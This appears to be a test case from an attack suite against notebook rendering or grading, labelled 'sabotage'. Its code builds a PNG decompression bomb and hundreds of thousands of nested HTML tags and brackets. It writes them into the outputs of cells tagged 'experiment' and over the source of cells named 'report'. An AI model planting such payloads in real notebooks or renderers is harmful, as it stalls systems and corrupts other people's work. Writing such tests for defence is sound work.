# Brings HTML and Markdown that take days to clean, and a picture too large to show.
# attacks: sabotage
# loses:
# %% linear
import base64
import zlib

display({"text/html": "<p><b>" * 200_000}, raw=True)

# %% hand-in
import base64
import struct
import zlib


def chunk(kind, data):
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


size = struct.pack(">IIBBBBB", 100_000, 100_000, 1, 0, 0, 0, 0)
picture = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size)
picture += chunk(b"IDAT", zlib.compress(bytes(12_501) * 1000)) + chunk(b"IEND", b"")
outputs = [
    {"output_type": "display_data", "metadata": {}, "data": {"text/html": "<p><b>" * 300_000}},
    {"output_type": "display_data", "metadata": {},
     "data": {"image/png": base64.b64encode(picture).decode()}},
]
for cell in notebook["cells"]:
    if "experiment" in cell["metadata"].get("tags", []):
        cell["outputs"] = outputs
    if cell["id"].startswith("report"):
        cell["source"] = "<p><b>" * 100_000 + "[" * 100_000
